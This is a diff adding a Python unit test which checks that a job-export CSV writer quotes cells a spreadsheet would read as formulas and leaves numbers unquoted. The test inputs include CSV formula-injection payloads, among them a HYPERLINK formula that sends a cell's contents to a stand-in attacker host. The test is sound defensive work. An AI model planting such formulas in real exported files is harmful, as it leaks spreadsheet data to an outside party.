@@ -89,3 +89,31 @@ def test_large_exports_are_written_in_chunks_that_make_the_whole() -> None:
     assert len(parts) == 4 and b"".join(parts) == expanded_jobs(registry, jobs)
     assert b"".join(expanded_jobs_chunks(registry, [])) == expanded_jobs(registry, []) == b"[]"
     assert b"".join(jobs_csv(registry, [])) == b",".join(c.encode() for c in CSV_COLUMNS) + b"\r\n"
+
+
+def test_a_text_cell_a_spreadsheet_would_take_for_a_formula_is_quoted_and_numbers_stay_numbers() -> None:
+    registry = registry_of([URL])
+    server = registry.server_by_url(URL)
+    assert server is not None
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    dangerous = [hyperlink, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
+    for number, text in enumerate([*dangerous, "Ward 7 = nightly", ""]):
+        job = {
+            "ID": f"{number:08d}-0000-4000-8000-000000000000",
+            "State": "Failure",
+            "Type": "=Type" if number == 0 else "Media",
+            "Progress": 0,
+            "ErrorCode": -1,
+            "ErrorDescription": text,
+            "Content": {"Description": text},
+        }
+        registry.apply_snapshot(server, {**job, "CreationTime": f"20261128T{number:06d}", "Timestamp": "1"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(jobs_csv(registry, registry.list_jobs())).decode())))
+    assert [row["Description"] for row in rows] == [
+        *(f"'{text}" for text in dangerous),
+        "Ward 7 = nightly",
+        "",
+    ]
+    assert [row["ErrorDescription"] for row in rows] == [row["Description"] for row in rows]
+    assert rows[0]["Type"] == "'=Type"
+    assert {(row["ErrorCode"], row["Progress"]) for row in rows} == {("-1", "0")}
